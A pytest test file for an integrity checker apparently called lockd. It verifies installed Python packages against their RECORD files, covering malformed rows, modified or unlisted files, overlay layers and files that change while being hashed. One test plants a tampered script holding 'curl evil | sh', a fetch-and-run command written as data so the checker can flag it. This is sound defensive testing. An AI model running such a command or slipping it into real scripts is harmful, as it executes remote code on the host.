"""Deep integrity without Docker: RECORD parsing, and check_files over real directories that
stand for a target's root (one directory, or overlay layers) on this machine."""

from __future__ import annotations

import base64
import hashlib
import os
from pathlib import Path
from typing import Any

import pytest
from builders import SITE, digest, install
from observations import observation

from lockd.errors import RefusedError
from lockd.evidence.integrity.check import check_files
from lockd.evidence.integrity.deep import require_intact
from lockd.evidence.integrity.hosttree import HostTree, _hash_fd
from lockd.evidence.integrity.records import (
    FileState,
    RecordRow,
    own_directories,
    parse_record,
    row_finding,
)
from lockd.judgement.checks.integrity import check_integrity
from lockd.judgement.policy import Policy, load_policy
from lockd.model.environment import Distribution
from lockd.model.host import Integrity
from lockd.model.report import Finding

RECORD = f"{SITE}/demo-1.0.dist-info/RECORD"
DIGEST = "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(b"x").digest()).rstrip(b"=").decode()


def tree(*layers: Path, **options: Any) -> HostTree:
    return HostTree(
        [str(layer) for layer in layers],
        kind="layers" if len(layers) > 1 else "overlay",
        evidence="host",
        description="the test root",
        **options,
    )


@pytest.fixture
def root(tmp_path: Path) -> Path:
    return tmp_path / "root"


@pytest.fixture
def demo(root: Path) -> Distribution:
    return install(
        root,
        "demo",
        "1.0",
        {
            "demo/__init__.py": b"from demo.core import answer\n",
            "demo/core.py": b"answer = 42\n",
            "demo/data/table.csv": b"a,b\n1,2\n",
            "../../../bin/demo": b"#!/opt/venv/bin/python\nimport demo\n",
        },
        unhashed=("demo/__pycache__/core.cpython-311.pyc",),
    )


def site(root: Path) -> Path:
    return root / SITE.lstrip("/")


def kinds(found: Integrity) -> list[tuple[str, str | None]]:
    return [(f.kind, f.path) for f in found.findings]


# --- RECORD ------------------------------------------------------------------------------------


def test_rows_resolve_against_the_location() -> None:
    data = (
        f"demo/core.py,{DIGEST},1\n"
        "\n"
        f"../../../bin/demo,{DIGEST},1\n"
        f"/etc/demo.conf,{DIGEST},\n"
        "demo/__pycache__/core.cpython-311.pyc,,\n"
        '"demo/with,comma.py",,\n'
    ).encode()
    rows, findings = parse_record(data, RECORD, SITE)
    assert findings == []
    assert rows == [
        RecordRow(f"{SITE}/demo/core.py", DIGEST, 1, 1),
        RecordRow("/opt/venv/bin/demo", DIGEST, 1, 3),
        RecordRow("/etc/demo.conf", DIGEST, None, 4),
        RecordRow(f"{SITE}/demo/__pycache__/core.cpython-311.pyc", None, None, 5),
        RecordRow(f"{SITE}/demo/with,comma.py", None, None, 6),
    ]
    assert rows[0].algorithm == "sha256"
    assert rows[3].algorithm is None


def test_climbing_out_of_the_root_stops_at_the_root() -> None:
    rows, _ = parse_record(f"../../../../../../../x,{DIGEST},1\n".encode(), RECORD, SITE)
    assert rows[0].path == "/x"


@pytest.mark.parametrize(
    ("line", "fragment"),
    [
        ("demo/core.py,sha256=abc", "expected 3 fields (path,hash,size), found 2"),
        ("demo/core.py,sha256=abc,1,extra", "expected 3 fields (path,hash,size), found 4"),
        (f",{DIGEST},1", "the path is empty"),
        ("demo/core.py,md5=1B2M2Y8AsgTpgAmY7PhCfg,0", "unsupported hash algorithm 'md5'"),
        ("demo/core.py,sha256,1", "hash 'sha256' is not ALGORITHM=DIGEST"),
        ("demo/core.py,sha256=not*base64,1", "'not*base64' is not a sha256 digest"),
        ("demo/core.py,sha256=" + "A" * 42 + ",1", "is not a sha256 digest in urlsafe base64"),
        (f"demo/core.py,{DIGEST},twelve", "size 'twelve' is not a whole number of bytes"),
        (f"demo/core.py,{DIGEST},-1", "size '-1' is not a whole number of bytes"),
        ('"demo/core.py,' + DIGEST + ",1", "expected 3 fields (path,hash,size), found 1"),
        ("x" * 200_000 + ",,", "not valid CSV (field larger than field limit"),
    ],
)
def test_malformed_lines_are_findings_naming_the_record_and_line(line: str, fragment: str) -> None:
    data = f"demo/__init__.py,{DIGEST},1\n{line}\n".encode()
    rows, findings = parse_record(data, RECORD, SITE)
    assert [f.kind for f in findings] == ["record-malformed"]
    assert findings[0].path == RECORD
    assert findings[0].message is not None
    assert findings[0].message.startswith(f"{RECORD} line 2: ")
    assert fragment in findings[0].message
    assert rows[0].path == f"{SITE}/demo/__init__.py"


def test_a_path_that_is_not_utf8_is_malformed() -> None:
    _, findings = parse_record(b"demo/\xff.py,,\n", RECORD, SITE)
    assert findings[0].message == f"{RECORD} line 1: the path is not UTF-8"


def test_a_path_listed_twice_with_two_digests_is_malformed() -> None:
    other = digest(b"y")
    data = f"demo/a.py,{DIGEST},1\ndemo/b.py,,\ndemo/a.py,{other},1\ndemo/b.py,,\n".encode()
    rows, findings = parse_record(data, RECORD, SITE)
    assert [r.path for r in rows] == [f"{SITE}/demo/a.py", f"{SITE}/demo/b.py"]
    assert len(findings) == 1
    assert findings[0].message is not None
    assert "line 3: demo/a.py is listed again (first on line 1)" in findings[0].message


def test_own_directories_are_the_top_level_directories_below_the_location() -> None:
    data = (
        f"torch/__init__.py,{DIGEST},1\ntorch/lib/libc10.so,{DIGEST},1\n"
        f"functorch/_C.so,{DIGEST},1\ntorch-2.13.0.dist-info/RECORD,,\n"
        f"typing_extensions.py,{DIGEST},1\n__pycache__/typing_extensions.cpython-311.pyc,,\n"
        f"../../../bin/torchrun,{DIGEST},1\n"
    ).encode()
    rows, _ = parse_record(data, RECORD, SITE)
    assert own_directories(rows, SITE) == {
        f"{SITE}/torch",
        f"{SITE}/functorch",
        f"{SITE}/torch-2.13.0.dist-info",
    }


@pytest.mark.parametrize(
    ("state", "expected"),
    [
        (FileState("file", digest=DIGEST, size=1), None),
        (FileState("missing"), ("missing", None)),
        (FileState("file", digest=digest(b"y"), size=1), ("modified", "the content differs")),
        (FileState("file", digest=DIGEST, size=2), ("modified", "1 bytes listed, 2 found")),
        (FileState("other", message="is a directory"), ("modified", "is a directory")),
        (FileState("unstable", message="written to"), ("unstable", "written to")),
        (FileState("unreadable", message="EIO"), ("unreadable", "EIO")),
    ],
)
def test_row_findings(state: FileState, expected: tuple[str, str | None] | None) -> None:
    finding = row_finding("demo", RecordRow(f"{SITE}/demo/x.py", DIGEST, 1, 1), state)
    if expected is None:
        assert finding is None
        return
    assert finding is not None
    assert (finding.kind, finding.name, finding.path) == (expected[0], "demo", f"{SITE}/demo/x.py")
    if expected[1] is not None:
        assert finding.message is not None
        assert expected[1] in finding.message


# --- a target's files, on one directory ---------------------------------------------------------


def test_a_clean_environment_has_no_findings(root: Path, demo: Distribution) -> None:
    found = check_files(tree(root), [demo], progress=False)
    assert found.findings == []
    assert (found.source, found.evidence) == ("overlay", "host")
    assert (found.distributions, found.files, found.unhashed) == (1, 5, 2)
    assert found.bytes == sum(
        len(data)
        for data in (
            b"from demo.core import answer\n",
            b"answer = 42\n",
            b"a,b\n1,2\n",
            b"#!/opt/venv/bin/python\nimport demo\n",
        )
    ) + len(b"Name: demo\nVersion: 1.0\n\n")


def test_an_edited_file_is_modified(root: Path, demo: Distribution) -> None:
    (site(root) / "demo/core.py").write_bytes(b"answer = 41\n")  # same size
    found = check_files(tree(root), [demo], progress=False)
    [finding] = found.findings
    assert (finding.kind, finding.name, finding.path) == (
        "modified",
        "demo",
        f"{SITE}/demo/core.py",
    )
    assert finding.expected == digest(b"answer = 42\n")
    assert finding.observed == digest(b"answer = 41\n")


def test_a_script_outside_the_location_is_checked(root: Path, demo: Distribution) -> None:
    (root / "opt/venv/bin/demo").write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
    found = check_files(tree(root), [demo], progress=False)
    assert kinds(found) == [("modified", "/opt/venv/bin/demo")]


def test_a_deleted_file_is_missing(root: Path, demo: Distribution) -> None:
    (site(root) / "demo/data/table.csv").unlink()
    found = check_files(tree(root), [demo], progress=False)
    assert kinds(found) == [("missing", f"{SITE}/demo/data/table.csv")]


def test_unlisted_files_in_the_package_directories(root: Path, demo: Distribution) -> None:
    (site(root) / "demo/evil.py").write_bytes(b"import os\n")
    (site(root) / "demo-1.0.dist-info/entry_points.txt").write_bytes(b"[x]\n")
    (site(root) / "demo/__pycache__/evil.cpython-311.pyc").write_bytes(b"\0")
    (site(root) / "unrelated.py").write_bytes(b"")  # not in demo's directories
    found = check_files(tree(root), [demo], progress=False)
    assert kinds(found) == [
        ("unlisted", f"{SITE}/demo-1.0.dist-info/entry_points.txt"),
        ("unlisted", f"{SITE}/demo/evil.py"),
    ]
    assert {f.name for f in found.findings} == {"demo"}
    strict = check_files(tree(root), [demo], ignore=[], progress=False)
    assert ("unlisted", f"{SITE}/demo/__pycache__/evil.cpython-311.pyc") in kinds(strict)


def test_links_are_followed_inside_the_root_never_on_the_host(
    root: Path, demo: Distribution
) -> None:
    core = site(root) / "demo/core.py"
    core.unlink()
    core.symlink_to("/etc/hostname")  # on this host it exists; in the root it does not
    found = check_files(tree(root), [demo], progress=False)
    assert kinds(found) == [("missing", f"{SITE}/demo/core.py")]
    (root / "etc").mkdir()
    (root / "etc/hostname").write_bytes(b"answer = 42\n")
    assert check_files(tree(root), [demo], progress=False).findings == []


def test_a_location_reached_through_a_directory_link(root: Path) -> None:
    lib64 = "/opt/venv/lib64/python3.11/site-packages"
    dist = install(root, "demo", "1.0", {"demo/core.py": b"answer = 42\n"}, location=SITE)
    (root / "opt/venv/lib64").symlink_to("lib")
    moved = dist.model_copy(update={"location": lib64})
    assert check_files(tree(root), [moved], progress=False).findings == []


@pytest.mark.parametrize(
    ("replace", "fragment"),
    [
        (lambda p: (p.unlink(), p.symlink_to(p.name)), "a loop of symbolic links"),
        (lambda p: (p.unlink(), os.mkfifo(p)), "not a regular file"),
        (lambda p: (p.unlink(), p.mkdir()), "is a directory"),
    ],
    ids=["link-loop", "fifo", "directory"],
)
def test_a_file_that_is_no_longer_a_file_is_modified(
    root: Path, demo: Distribution, replace: object, fragment: str
) -> None:
    replace(site(root) / "demo/core.py")  # type: ignore[operator]
    found = check_files(tree(root), [demo], progress=False)
    [finding] = found.findings
    assert (finding.kind, finding.path) == ("modified", f"{SITE}/demo/core.py")
    assert finding.message is not None
    assert fragment in finding.message


def test_a_record_other_than_the_probes_is_a_finding(root: Path, demo: Distribution) -> None:
    claimed = demo.model_copy(update={"record_sha256": "0" * 64})
    found = check_files(tree(root), [claimed], progress=False)
    [finding] = found.findings
    assert (finding.kind, finding.path, finding.expected) == ("record-mismatch", RECORD, "0" * 64)
    assert finding.observed == demo.record_sha256


def test_a_missing_record_is_a_finding(root: Path, demo: Distribution) -> None:
    (root / RECORD.lstrip("/")).unlink()
    found = check_files(tree(root), [demo], progress=False)
    assert kinds(found) == [("record-missing", RECORD)]


def test_a_distribution_without_metadata_here_is_a_finding(root: Path, demo: Distribution) -> None:
    ghost = demo.model_copy(update={"name": "ghost"})
    found = check_files(tree(root), [demo, ghost], progress=False)
    assert kinds(found) == [("record-missing", SITE)]
    assert found.findings[0].name == "ghost"


def test_distributions_without_a_record_are_listed(root: Path, demo: Distribution) -> None:
    legacy = demo.model_copy(update={"name": "legacy", "record_sha256": None})
    found = check_files(tree(root), [demo, legacy], progress=False)
    assert found.findings == []
    assert found.without_record == ["legacy"]


def test_record_deep_refuses_naming_the_file_and_the_line(root: Path, demo: Distribution) -> None:
    record = root / RECORD.lstrip("/")
    record.write_bytes(record.read_bytes() + b"demo/extra.py,md5=abc,3\n")
    fixed = demo.model_copy(
        update={"record_sha256": hashlib.sha256(record.read_bytes()).hexdigest()}
    )
    (site(root) / "demo/core.py").write_bytes(b"answer = 0\n")
    found = check_files(tree(root), [fixed], progress=False)
    with pytest.raises(RefusedError) as raised:
        require_intact(observation(integrity=found))
    message = str(raised.value)
    assert message.startswith("app-1: refusing to sign: 2 installed file(s) or RECORD(s)")
    assert f"{RECORD} line 8: unsupported hash algorithm 'md5'" in message
    assert f"modified {SITE}/demo/core.py (demo)" in message
    assert raised.value.exit_code == 1


def test_require_intact_accepts_a_clean_or_shallow_observation(
    root: Path, demo: Distribution
) -> None:
    require_intact(observation())
    require_intact(observation(integrity=check_files(tree(root), [demo], progress=False)))


def test_mounts_are_read_from_their_source(root: Path, demo: Distribution, tmp_path: Path) -> None:
    """A container sees a bind mount or a volume, not the merged directory below it."""
    volume, conf = tmp_path / "volume", tmp_path / "init.py"
    (volume / "data").mkdir(parents=True)
    (volume / "__init__.py").write_bytes(b"from demo.core import answer\n")
    (volume / "core.py").write_bytes(b"answer = 41\n")
    (volume / "data/table.csv").write_bytes(b"a,b\n1,2\n")
    (volume / "planted.py").write_bytes(b"")
    conf.write_bytes(b"import os\n")
    mounts = [(f"{SITE}/demo", str(volume)), (f"{SITE}/demo/__init__.py", str(conf))]
    found = check_files(tree(root, mounts=mounts), [demo], progress=False)
    assert kinds(found) == [
        ("modified", f"{SITE}/demo/__init__.py"),
        ("modified", f"{SITE}/demo/core.py"),
        ("unlisted", f"{SITE}/demo/planted.py"),
    ]


# --- overlay layers, and large files through a memory map ----------------------------------------


def test_layers_are_merged_top_first(tmp_path: Path) -> None:
    lower, upper = tmp_path / "lower", tmp_path / "upper"
    demo = install(lower, "demo", "1.0", {"demo/core.py": b"answer = 42\n", "demo/a.py": b"a\n"})
    (site(upper) / "demo").mkdir(parents=True)
    (site(upper) / "demo/core.py").write_bytes(b"answer = 7\n")
    (site(upper) / "demo/added.py").write_bytes(b"")
    found = check_files(tree(upper, lower), [demo], progress=False)
    assert found.source == "layers"
    assert kinds(found) == [
        ("unlisted", f"{SITE}/demo/added.py"),
        ("modified", f"{SITE}/demo/core.py"),
    ]


def test_a_file_in_an_upper_layer_hides_a_directory_below(tmp_path: Path) -> None:
    lower, upper = tmp_path / "lower", tmp_path / "upper"
    demo = install(lower, "demo", "1.0", {"demo/data/x.csv": b"x\n"})
    (site(upper) / "demo").mkdir(parents=True)
    (site(upper) / "demo/data").write_bytes(b"")
    found = check_files(tree(upper, lower), [demo], progress=False)
    assert kinds(found) == [
        ("unlisted", f"{SITE}/demo/data"),
        ("missing", f"{SITE}/demo/data/x.csv"),
    ]


@pytest.mark.parametrize("options", [{"immutable": True}, {}], ids=["mapped", "read"])
def test_large_files_hash_the_same_mapped_or_read(root: Path, options: dict[str, bool]) -> None:
    blob = os.urandom(17 * 1024 * 1024 + 5)  # more than one 16 MiB window when mapped
    demo = install(root, "demo", "1.0", {"demo/blob.bin": blob})
    assert check_files(tree(root, **options), [demo], progress=False).findings == []
    (site(root) / "demo/blob.bin").write_bytes(blob[:-1] + b"!")
    found = check_files(tree(root, **options), [demo], progress=False)
    assert kinds(found) == [("modified", f"{SITE}/demo/blob.bin")]


def test_a_container_file_in_its_writable_layer_is_not_mapped(tmp_path: Path) -> None:
    merged, upper = tmp_path / "merged", tmp_path / "upper"
    demo = install(merged, "demo", "1.0", {"demo/blob.bin": b"b" * (2 * 1024 * 1024)})
    (site(upper) / "demo").mkdir(parents=True)
    container = tree(merged, upper=str(upper))
    opened = container._file(f"{SITE}/demo/blob.bin")
    assert not isinstance(opened, FileState)
    assert container._mappable(opened)  # served from the image's read-only layers
    (site(upper) / "demo/blob.bin").write_bytes(b"")
    assert not container._mappable(opened)  # copied up: the container may truncate it
    os.close(opened.handle)
    assert check_files(container, [demo], progress=False).findings == []


# --- files that change while lockd hashes them -----------------------------------------------


@pytest.mark.parametrize("mapped", [False, True], ids=["read", "mapped"])
def test_a_file_written_to_while_hashed_is_unstable(tmp_path: Path, mapped: bool) -> None:
    path = tmp_path / "f"
    path.write_bytes(b"x" * (2 * 1024 * 1024))
    before = os.stat(path)
    with path.open("ab") as f:
        f.write(b"more")
    fd = os.open(path, os.O_RDONLY)
    try:
        state = _hash_fd(fd, str(path), before, "sha256", bytearray(1024 * 1024), mapped)
    finally:
        os.close(fd)
    assert (state.kind, state.message) == ("unstable", "written to while lockd hashed it")


def test_a_file_replaced_while_hashed_is_unstable(tmp_path: Path) -> None:
    path, other = tmp_path / "f", tmp_path / "g"
    path.write_bytes(b"old")
    other.write_bytes(b"new")
    fd = os.open(path, os.O_RDONLY)
    try:
        before = os.fstat(fd)
        os.replace(other, path)
        state = _hash_fd(fd, str(path), before, "sha256", bytearray(1024))
    finally:
        os.close(fd)
    assert (state.kind, state.message) == ("unstable", "replaced while lockd hashed it")


def test_a_file_removed_while_hashed_is_unstable(tmp_path: Path) -> None:
    path = tmp_path / "f"
    path.write_bytes(b"gone")
    fd = os.open(path, os.O_RDONLY)
    try:
        before = os.fstat(fd)
        path.unlink()
        state = _hash_fd(fd, str(path), before, "sha256", bytearray(1024))
    finally:
        os.close(fd)
    assert (state.kind, state.message) == ("unstable", "removed while lockd hashed it")


# --- the integrity check ------------------------------------------------------------------------


def integrity(*findings: Finding, omitted: int = 0) -> Integrity:
    return Integrity(
        source="overlay",
        evidence="host",
        distributions=2,
        files=30,
        bytes=1000,
        findings=list(findings),
        omitted=omitted,
        without_record=["legacy"],
    )


def test_the_check_is_skipped_without_deep() -> None:
    check = check_integrity(observation(), Policy())
    assert (check.id, check.status) == ("integrity", "skip")
    assert "--deep" in check.message


def test_the_check_passes_on_a_clean_target() -> None:
    check = check_integrity(observation(integrity=integrity()), Policy())
    assert (check.status, check.evidence) == ("pass", "host")
    assert check.message == (
        "30 files of 2 distributions match their RECORD (read from the container's overlay "
        "merged directory, on the host); 1 without a RECORD not checked"
    )


def test_findings_fail_the_check_and_are_counted_by_kind() -> None:
    found = integrity(
        Finding(kind="modified", name="six", path=f"{SITE}/six.py"),
        Finding(kind="missing", name="idna", path=f"{SITE}/idna/core.py"),
        Finding(kind="modified", name="idna", path=f"{SITE}/idna/x.py"),
        omitted=5,
    )
    check = check_integrity(observation(integrity=found), Policy())
    assert check.status == "fail"
    assert len(check.findings) == 3
    assert check.message.startswith(
        "8 finding(s) against the RECORDs: 1 missing, 2 modified (5 more not listed)"
    )


def test_the_audit_policy_only_warns() -> None:
    found = integrity(Finding(kind="unlisted", name="six", path=f"{SITE}/six/evil.py"))
    check = check_integrity(observation(integrity=found), load_policy("audit"))
    assert check.status == "warn"
